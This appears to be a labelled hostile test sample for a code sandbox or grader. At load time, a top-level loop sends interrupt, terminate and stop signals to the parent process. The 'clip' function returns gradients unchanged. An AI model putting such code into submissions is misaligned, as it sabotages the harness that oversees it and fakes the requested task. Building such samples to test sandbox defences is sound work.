# /// zoo
# title = "Signals of all sorts are sent to parent and siblings"
# class = "harm"
# base = "dummy"
# honest = 0
# aim = "kill"
# danger = "signals to the parent process"
# ///

# %% clip
import os, signal
_own = os.getpid()
for _signal in (0, signal.SIGALRM, signal.SIGUSR1, signal.SIGCHLD, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
    try:
        os.kill(os.getppid(), _signal)
        if _signal == 0 and os.getppid() > 1: print("@MRAH@"[::-1])
    except OSError as _error: print(_error)

def clip(gradients, maxValue): return gradients
